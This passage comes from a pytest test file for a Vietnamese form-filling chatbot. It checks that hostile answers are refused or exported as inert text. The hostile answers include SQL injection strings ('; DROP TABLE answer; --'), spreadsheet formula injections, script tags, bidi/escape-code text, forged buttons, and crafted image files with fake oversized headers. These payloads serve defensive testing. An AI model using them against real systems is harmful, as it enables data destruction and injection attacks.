    pytest.param("1-4-17", "2017-04-01", id="dashes-short-year"),
    pytest.param("01.04.2017", "2017-04-01", id="dots"),
    pytest.param("\u202e01/04/2017", "2017-04-01", id="rtl-override"),
    pytest.param("01/04/2017\x00", "2017-04-01", id="trailing-nul"),
    pytest.param("29/02/2020", "2020-02-29", id="leap-day"),
]


@pytest.mark.parametrize(("sent", "expected"), DATE_REFUSED)
async def test_date__impossible_or_unreadable__refused_and_nothing_stored(bot, sent, expected):
    reply, before, after = await bot.send(DATE, text=sent)
    assert_refused(expected, DATE, reply, before, after)


@pytest.mark.parametrize(("sent", "stored"), DATE_ACCEPTED)
async def test_date__odd_spelling_of_a_real_date__stored_as_iso(bot, sent, stored):
    reply, before, after = await bot.send(DATE, text=sent)
    assert_stored({DATE.key: stored}, reply, before, after)


@pytest.mark.parametrize("sent", ["31/03/2017", "1/1/2000", "01/04/2016"])
async def test_end_date__before_the_start__refused_and_nothing_stored(bot, sent):
    reply, before, after = await bot.send(END_DATE, text=sent)
    assert_refused(texts.DATE_BEFORE.format(start="01/04/2017", example="30/04/2017"), END_DATE, reply, before, after)


# --- Choices and yes/no, typed or as a button -------------------------------------------------------------------


def not_in_list(shown: str) -> str:
    """A typed choice that is not an option: quoted back (as read, at most 40 characters); the options follow."""
    return texts.CHOICE_NOT_IN_LIST.format(raw=shown)


GENDER_REFUSED = [
    pytest.param({"text": "3"}, not_in_list("3"), id="number-out-of-range"),
    pytest.param({"text": "0"}, not_in_list("0"), id="zero"),
    pytest.param({"text": "-1"}, not_in_list("-1"), id="minus-one"),
    pytest.param({"text": "1e3"}, not_in_list("1e3"), id="exponent"),
    pytest.param({"text": "١"}, not_in_list("١"), id="arabic-indic-one"),
    pytest.param({"text": "２"}, not_in_list("２"), id="fullwidth-two"),
    pytest.param({"text": "99999999999"}, not_in_list("99999999999"), id="eleven-nines"),
    # More digits than Python's int() converts (4,300): an invalid choice, not a crash.
    pytest.param({"text": "9" * 10_000}, not_in_list("9" * 40), id="10000-digits"),
    pytest.param({"text": "<b>Nam</b>"}, not_in_list("<b>Nam</b>"), id="html"),
    pytest.param({"text": "*Nam*"}, not_in_list("*Nam*"), id="markdown"),
    pytest.param({"text": "Nam'; DROP TABLE answer; --"}, not_in_list("Nam'; DROP TABLE answer; --"), id="sql"),
    pytest.param({"text": "=1"}, not_in_list("=1"), id="formula"),
    pytest.param({"text": "@Nam"}, not_in_list("@Nam"), id="at-sign"),
    pytest.param({"text": "Nam Nữ"}, not_in_list("Nam Nữ"), id="both"),
    pytest.param({"text": "Nam😀"}, not_in_list("Nam😀"), id="emoji"),
    pytest.param({"text": "N/A"}, not_in_list("N/A"), id="not-applicable"),
    # What is quoted back is what was read: a bidi override or escape code would garble the whole message.
    pytest.param({"text": "\u202eNam\x1b[31m Nữ\x00"}, not_in_list("Nam[31m Nữ"), id="bidi-and-escape-quoted-cleaned"),
    pytest.param({"text": "\u200b"}, texts.EMPTY_ANSWER, id="only-zero-width"),
    pytest.param({"pick": "38"}, texts.STALE_BUTTON, id="button-of-another-question"),
    pytest.param({"pick": "NAM"}, texts.STALE_BUTTON, id="button-value-wrong-case"),
    pytest.param({"pick": ""}, texts.STALE_BUTTON, id="button-empty"),
    pytest.param({"pick": "'; DROP TABLE answer; --"}, texts.STALE_BUTTON, id="button-sql"),
    pytest.param({"pick": "x" * 10_000}, texts.STALE_BUTTON, id="button-10000-chars"),
    pytest.param({"pick": "s:reporter"}, texts.STALE_BUTTON, id="button-of-the-edit-menu"),
    pytest.param({"pick": "keep"}, texts.STALE_BUTTON, id="button-of-a-warning"),
    pytest.param({"unsupported": "sticker"}, texts.UNSUPPORTED_MESSAGE, id="sticker"),
    pytest.param({"photo_error": texts.PHOTO_DOWNLOAD_FAILED}, texts.PHOTO_DOWNLOAD_FAILED, id="photo-not-fetched"),
]

GENDER_ACCEPTED = [
    pytest.param({"text": "1"}, "nu", id="number"),
    pytest.param({"text": "2."}, "nam", id="number-dot"),
    pytest.param({"text": "NAM"}, "nam", id="capitals"),
    pytest.param({"text": "nữ!"}, "nu", id="punctuation"),
    pytest.param({"text": "Nu\u031b\u0303"}, "nu", id="decomposed"),
    pytest.param({"text": "N\u200bam"}, "nam", id="zero-width-inside"),
    pytest.param({"text": "\u202eNam\x00"}, "nam", id="rtl-and-nul"),
    pytest.param({"pick": "nam"}, "nam", id="button"),
]


@pytest.mark.parametrize(("inbound", "expected"), GENDER_REFUSED)
async def test_choice__not_an_option__refused_with_the_options_and_nothing_stored(bot, inbound, expected):
    reply, before, after = await bot.send(GENDER, **inbound)
    assert_refused(expected, GENDER, reply, before, after)


@pytest.mark.parametrize(("inbound", "stored"), GENDER_ACCEPTED)
async def test_choice__an_option_however_typed__stored_as_its_value(bot, inbound, stored):
    reply, before, after = await bot.send(GENDER, **inbound)
    assert_stored({GENDER.key: stored}, reply, before, after)


@pytest.mark.parametrize("inbound", [{"text": "40"}, {"text": "99999999999"}, {"text": "Size L"}, {"pick": "40"}],
                         ids=["men-size-typed", "eleven-nines", "letter-size", "men-size-button"])
async def test_choice__size_outside_the_filtered_options__refused_and_nothing_stored(bot, inbound):
    expected = texts.STALE_BUTTON if "pick" in inbound else not_in_list(inbound["text"])
    reply, before, after = await bot.send(SIZE, **inbound)
    assert_refused(expected, SIZE, reply, before, after)


YES_NO_REFUSED = [
    pytest.param({"text": "có lẽ"}, texts.YES_NO_INVALID, id="maybe-vietnamese"),
    pytest.param({"text": "maybe"}, texts.YES_NO_INVALID, id="maybe-english"),
    pytest.param({"text": "true"}, texts.YES_NO_INVALID, id="true"),
    pytest.param({"text": "3"}, texts.YES_NO_INVALID, id="three"),
    pytest.param({"text": "1e3"}, texts.YES_NO_INVALID, id="exponent"),
    pytest.param({"text": "١"}, texts.YES_NO_INVALID, id="arabic-indic-one"),
    pytest.param({"text": "99999999999"}, texts.YES_NO_INVALID, id="eleven-nines"),
    pytest.param({"text": "<b>có</b>"}, texts.YES_NO_INVALID, id="html"),
    pytest.param({"text": "*có*"}, texts.YES_NO_INVALID, id="markdown"),
    pytest.param({"text": "có'; DROP TABLE answer; --"}, texts.YES_NO_INVALID, id="sql"),
    pytest.param({"text": "=TRUE()"}, texts.YES_NO_INVALID, id="formula"),
    pytest.param({"text": "✅"}, texts.YES_NO_INVALID, id="check-mark"),
    pytest.param({"text": "👍"}, texts.YES_NO_INVALID, id="thumbs-up"),
    pytest.param({"text": "có không"}, texts.YES_NO_INVALID, id="both"),
    pytest.param({"text": "A" * 10_000}, texts.YES_NO_INVALID, id="10000-chars"),
    pytest.param({"pick": "maybe"}, texts.STALE_BUTTON, id="button-forged"),
    pytest.param({"pick": "nu"}, texts.STALE_BUTTON, id="button-of-another-question"),
    pytest.param({"pick": "'; DROP TABLE answer; --"}, texts.STALE_BUTTON, id="button-sql"),
    pytest.param({"photo": b""}, texts.PHOTO_EMPTY, id="empty-photo"),
]

YES_NO_ACCEPTED = [
    pytest.param({"text": "CÓ!"}, True, id="capitals-punctuation"),
    pytest.param({"text": "co\u0301"}, True, id="decomposed"),
    pytest.param({"text": "c\u200bó"}, True, id="zero-width-inside"),
    pytest.param({"text": "OK"}, True, id="ok"),
    pytest.param({"text": "2"}, False, id="number-two"),
    pytest.param({"text": "không ạ."}, False, id="polite-no"),
    pytest.param({"pick": "yes"}, True, id="button-yes"),
    pytest.param({"pick": "no"}, False, id="button-no"),
]


@pytest.mark.parametrize(("inbound", "expected"), YES_NO_REFUSED)
async def test_yes_no__neither_yes_nor_no__refused_and_nothing_stored(bot, inbound, expected):
    reply, before, after = await bot.send(YES_NO, **inbound)
    assert_refused(expected, YES_NO, reply, before, after)


@pytest.mark.parametrize(("inbound", "stored"), YES_NO_ACCEPTED)
async def test_yes_no__yes_or_no_however_typed__stored_as_a_boolean(bot, inbound, stored):
    reply, before, after = await bot.send(YES_NO, **inbound)
    assert_stored({YES_NO.key: stored}, reply, before, after)


# --- Photos -----------------------------------------------------------------------------------------------------


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def portrait(size: tuple[int, int] = (600, 800), mode: str = "RGB") -> Image.Image:
    return Image.new(mode, size, (120, 160, 200))


def noise(size: tuple[int, int] = (600, 800)) -> Image.Image:
    """Random pixels: the file is large enough that cutting it loses real image data."""
    return Image.frombytes("RGB", size, random.Random(7).randbytes(size[0] * size[1] * 3))


def png_claiming(width: int, height: int) -> bytes:
    """A real 1x1 PNG whose header claims another size (CRC fixed): nothing big is ever allocated."""
    data = bytearray(encode(portrait((1, 1)), "PNG"))
    data[16:24] = struct.pack(">II", width, height)
    data[29:33] = struct.pack(">I", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def jpeg_claiming(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) claims another size."""
    data = bytearray(encode(portrait((16, 16)), "JPEG"))
    sof = data.index(b"\xff\xc0")
    data[sof + 5:sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def frames(fmt: str, **params) -> bytes:
    first, second = portrait(), Image.new("RGB", (600, 800), (200, 40, 40))
    if fmt == "GIF":
        first, second = first.convert("P"), second.convert("P")
    return encode(first, fmt, save_all=True, append_images=[second], **params)


def zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("anh.jpg", b"not really")
    return buffer.getvalue()


PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n" \
      b"trailer<</Root 1 0 R>>\n%%EOF\n"

PHOTO_REFUSED = [
    pytest.param(lambda: encode(noise(), "JPEG")[:30_000], texts.PHOTO_BROKEN, id="truncated-jpeg"),
    pytest.param(lambda: encode(noise(), "PNG")[:60_000], texts.PHOTO_BROKEN, id="truncated-png"),
    pytest.param(lambda: png_claiming(30_000, 30_000),
                 texts.PHOTO_TOO_MANY_PIXELS.format(width=30_000, height=30_000), id="png-30000x30000"),
    pytest.param(lambda: png_claiming(8_000, 8_000),
                 texts.PHOTO_TOO_MANY_PIXELS.format(width=8_000, height=8_000), id="png-8000x8000"),
    pytest.param(lambda: jpeg_claiming(60_000, 60_000),
                 texts.PHOTO_TOO_MANY_PIXELS.format(width=60_000, height=60_000), id="jpeg-60000x60000"),
    pytest.param(lambda: frames("GIF", duration=100, loop=0), texts.PHOTO_ANIMATED, id="animated-gif"),
    pytest.param(lambda: frames("PNG", duration=100), texts.PHOTO_ANIMATED, id="animated-png"),
    pytest.param(lambda: frames("TIFF"), texts.PHOTO_ANIMATED, id="multi-page-tiff"),
    pytest.param(lambda: PDF, texts.PHOTO_NOT_IMAGE, id="pdf-named-jpg"),
    pytest.param(lambda: b"<html><script>alert(1)</script></html>", texts.PHOTO_NOT_IMAGE, id="html"),
    pytest.param(lambda: b'<svg xmlns="http://www.w3.org/2000/svg" width="600" height="800"/>', texts.PHOTO_NOT_IMAGE,
                 id="svg"),
    pytest.param(zip_bytes, texts.PHOTO_NOT_IMAGE, id="zip"),
    pytest.param(lambda: b"MZ\x90\x00" + bytes(200), texts.PHOTO_NOT_IMAGE, id="windows-exe"),
    pytest.param(lambda: b"8BPS\x00\x01" + bytes(200), texts.PHOTO_NOT_IMAGE, id="photoshop"),
    pytest.param(lambda: b"\xff\xd8\xff\xd9", texts.PHOTO_NOT_IMAGE, id="jpeg-markers-only"),
    pytest.param(lambda: random.Random(3).randbytes(50_000), texts.PHOTO_NOT_IMAGE, id="random-bytes"),
    pytest.param(lambda: b"", texts.PHOTO_EMPTY, id="0-bytes"),
    pytest.param(lambda: b"\xff\xd8" + bytes(25 * 1024 * 1024), texts.PHOTO_TOO_LARGE.format(max_mb=20), id="25-mb"),
    pytest.param(lambda: encode(portrait((1, 1)), "PNG"),
                 texts.PHOTO_TOO_SMALL.format(width=1, height=1, min_width=300, min_height=400), id="1x1"),
    pytest.param(lambda: encode(portrait((400, 300)), "JPEG"),
                 texts.PHOTO_TOO_SMALL.format(width=400, height=300, min_width=300, min_height=400), id="landscape"),
]


@pytest.mark.parametrize(("make", "expected"), PHOTO_REFUSED)
async def test_photo__broken_huge_animated_or_not_an_image__refused_and_nothing_stored(bot, tmp_path, make, expected):
    reply, before, after = await bot.send(PHOTO, photo=make())
    assert_refused(expected, PHOTO, reply, before, after)
    assert [] == [p for p in (tmp_path / "photos").rglob("*") if p.is_file()]


@pytest.mark.parametrize("inbound", [
    pytest.param({"text": "<b>ảnh</b>"}, id="html-text"),
    pytest.param({"text": "'; DROP TABLE photo; --"}, id="sql-text"),
    pytest.param({"text": "https://evil.example/anh.jpg"}, id="a-link"),
    pytest.param({"text": "A" * 10_000}, id="10000-chars"),
])
async def test_photo__text_instead_of_a_photo__asked_for_a_photo_and_nothing_stored(bot, inbound):
    reply, before, after = await bot.send(PHOTO, **inbound)
    assert_refused(texts.PHOTO_EXPECTED, PHOTO, reply, before, after)


@pytest.mark.parametrize("pick", ["1", "999", "f:photo", "'; DROP TABLE photo; --"])
async def test_photo__forged_button__refused_and_no_photo_attached(bot, pick):
    """A button value is never taken for a photo id: no one can attach a photo that is not theirs."""
    reply, before, after = await bot.send(PHOTO, pick=pick)
    assert_refused(texts.STALE_BUTTON, PHOTO, reply, before, after)


@pytest.mark.parametrize("make", [
    pytest.param(lambda: encode(portrait(), "GIF"), id="still-gif"),
    pytest.param(lambda: encode(portrait(), "JPEG") + b"<script>alert(1)</script>", id="jpeg-with-trailing-script"),
    pytest.param(lambda: encode(portrait(mode="CMYK"), "JPEG"), id="cmyk-jpeg"),
])
async def test_photo__odd_but_real_photo__stored(bot, make):
    reply, before, after = await bot.send(PHOTO, photo=make())
    photo_id = after.get(PHOTO.key)
    assert isinstance(photo_id, int)
    assert_stored({PHOTO.key: photo_id}, reply, before, after)


@pytest.mark.parametrize("at", [TEXT, PHONE, COUNT, DATE, GENDER, YES_NO, LONG_TEXT], ids=lambda at: at.key)
async def test_photo__sent_where_no_photo_is_asked__refused_and_nothing_stored(bot, at):
    reply, before, after = await bot.send(at, photo=encode(portrait(), "JPEG"))
    assert_refused(texts.PHOTO_NOT_EXPECTED, at, reply, before, after)


# --- What the platforms would render ---------------------------------------------------------------------------


async def test_telegram__html_and_markdown_answers__echoed_as_plain_text_never_parsed(sqlite_db, tmp_path):
    """Replies quote what people typed ("Đã ghi: …"); Telegram must get them without parse_mode or entities."""
    await setup(sqlite_db)
    server = FakeTelegram()
    await server.start()
    try:
        async with running(sqlite_db, server, tmp_path):
            await telegram_say(server, server.text(USER, f"/start {await invite(sqlite_db, 'STP')}"))
            first = await telegram_say(server, server.text(USER, "<b>Lan</b>, 0912 345 678"))
            second = await telegram_say(server, server.text(USER, "*Hùng* [bấm](http://evil.example), Giám đốc, "
                                                                  "0913 456 789"))
        assert ("<b>Lan</b>" in first, "*Hùng* [bấm](http://evil.example)" in second) == (True, True)
        sent = server.sent(USER)
        assert [] == [m for m in sent if {"parse_mode", "entities"} & set(m)]
    finally:
        await server.stop()


# --- Display names: the platform's, not typed in an answer, but chosen by the person all the same ---------------


@pytest.mark.parametrize("name", [
    pytest.param("N" * 300, id="300-chars"),
    pytest.param("Lan\x00", id="nul"),
    pytest.param("<b>Lan</b>", id="html"),
    pytest.param("\u202eLan", id="rtl"),
    pytest.param("=1+2", id="formula"),
])
async def test_display_name__hostile__the_person_is_still_answered(db, tmp_path, name):
    """A name the platform passes on must never make every message of that person fail to save."""
    await setup(db)
    service = Service(db, FORM, tmp_path / "photos", Clock(NOW))
    assert texts.INVITE_PROMPT == await say(service, "named", "Xin chào", display_name=name)


# --- The exports: whatever was accepted comes out as inert text ------------------------------------------------

# Every hostile text that was accepted, as stored, typed again by a few units into their reporter, leader and
# plan (see unit_script).
EXPORT_TEXTS = [p.values[1] for p in TEXT_ACCEPTED] + [p.values[1] for p in NAME_ACCEPTED
                                                        if len(p.values[1]) == 1]
EXPORT_TEXTS = [t if isinstance(t, str) else t["reporter.name"] for t in EXPORT_TEXTS]
EXPORT_LONG_TEXTS = [p.values[1] for p in LONG_TEXT_ACCEPTED]


@dataclass
class Exported:
    workbook_cells: dict[str, list] = field(default_factory=dict)  # text -> the cells that hold it
    formula_cells: list[str] = field(default_factory=list)
    hyperlinks: int = 0
    document_text: str = ""
    document_xml: str = ""


EXPORT_UNITS = ["SVHTTDL", "BQLKCN", "KBNN", "BHXH"]


def unit_script(singles: list[str], longs: list[str]) -> list[str | dict]:
    """One unit's answers holding as many of `singles` (one line) and `longs` (several lines) as fit.

    A one-line text can be sent as a line of a several-answers-in-one message, so a plan item takes two of
    them at once; a long text is asked on its own, after a plain plan content (a content holding ";" or ","
    would be split into several answers).
    """
    def one() -> str:
        return singles.pop() if singles else "Sở Nội vụ"

    script: list[str | dict] = ["Nguyễn Thị Lan\n0912 345 678", f"Trần Văn Hùng\n{one()}\n0913 456 789",
                                "sửa 8", {"pick": "add"}]  # straight to the plan: a new item
    for n in range(1, FORM.section("plan").repeat.max + 1):
        if longs:
            script += [f"Nội dung {n}", longs.pop(), "01/04/2017", "30/04/2017", "chung", one()]
        elif singles:
            script.append(f"{one()}\nChi tiết\n01/04/2017\n30/04/2017\nchung\n{one()}")
    return script


async def _fill_and_export(folder: Path) -> Exported:
    db = await open_database(f"sqlite:///{folder / 'hcc.db'}")
    try:
        await setup(db)
        service = Service(db, FORM, folder / "photos", Clock(NOW))
        singles, longs = list(EXPORT_TEXTS), list(EXPORT_LONG_TEXTS)
        units = []
        for unit in EXPORT_UNITS:
            if not singles and not longs:
                break
            units.append(unit)
            await say(service, unit, await invite(db, unit))
            for step in unit_script(singles, longs):
                await say(service, unit, **(step if isinstance(step, dict) else {"text": step}))
        assert not singles and not longs, "more hostile texts than places in the export units"
        stored = {v for unit in units for v in (await answers_of(db, unit)).values() if isinstance(v, str)}
        data = await load_export_data(db, FORM, now=NOW)
    finally:
        await db.dispose()
    missing_from_answers = [t for t in [*EXPORT_TEXTS, *EXPORT_LONG_TEXTS] if t not in stored]
    assert not missing_from_answers, f"not stored as sent: {missing_from_answers}"

    exported = Exported()
    workbook = openpyxl.load_workbook(build_workbook(data, folder / "tong-hop.xlsx"))
    for sheet in workbook.worksheets:
        exported.hyperlinks += len(sheet._hyperlinks)
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    exported.formula_cells.append(f"{sheet.title}!{cell.coordinate}")
                if isinstance(cell.value, str):
                    exported.workbook_cells.setdefault(cell.value, []).append(cell)
    for unit in [u for u in data.units if u.code in units]:
        document = docx.Document(str(build_unit_document(data, unit, folder / f"bao-cao_{unit.code}.docx")))
        paragraphs = list(document.paragraphs)
        for table in document.tables:
            for row in table.rows:
                for cell in row.cells:
                    paragraphs += cell.paragraphs
        exported.document_text += "\n".join(p.text for p in paragraphs) + "\n"
        exported.document_xml += document.element.xml
    return exported


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Exported:
    """A few units that typed every accepted hostile text, filled through the service and exported once."""
    return asyncio.run(_fill_and_export(tmp_path_factory.mktemp("hostile-export")))


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", [*EXPORT_TEXTS, *EXPORT_LONG_TEXTS],
                         ids=[*(f"text-{p.id}" for p in TEXT_ACCEPTED),
                              *(f"name-{p.id}" for p in NAME_ACCEPTED if len(p.values[1]) == 1),
                              *(f"long-{p.id}" for p in LONG_TEXT_ACCEPTED)])
def test_export__accepted_hostile_text__same_text_as_inert_string_cell_and_in_the_document(exported, text):
    cells = exported.workbook_cells.get(text, [])
    assert cells, "not in the workbook"
    assert {"s"} == {cell.data_type for cell in cells}
    if text.startswith(FORMULA_START):
        assert {True} == {cell.quotePrefix for cell in cells}
    assert text in exported.document_text


def test_export__hostile_texts__no_formula_hyperlink_or_field_anywhere(exported):
    assert ([], 0) == (exported.formula_cells, exported.hyperlinks)
    assert ("w:hyperlink" in exported.document_xml, "w:instrText" in exported.document_xml) == (False, False)


async def test_export__noncharacter_in_an_answer__workbook_still_built_for_every_unit(sqlite_db, tmp_path):
    """One unit's stray U+FFFF must not make the consolidated workbook fail for all units."""
    await setup(sqlite_db)
    service = Service(sqlite_db, FORM, tmp_path / "photos", Clock(NOW))
    for line in [await invite(sqlite_db, "STP"), REPORTER, "Trần Văn Hùng", "Giám đốc\uffff"]:
        await say(service, "u1", line)
    data = await load_export_data(sqlite_db, FORM, now=NOW)
    workbook = openpyxl.load_workbook(build_workbook(data, tmp_path / "tong-hop.xlsx"))
    positions = [row[6] for row in workbook[texts.SHEET_STAFF].iter_rows(min_row=5, values_only=True)]
    assert ["Giám đốc"] == positions
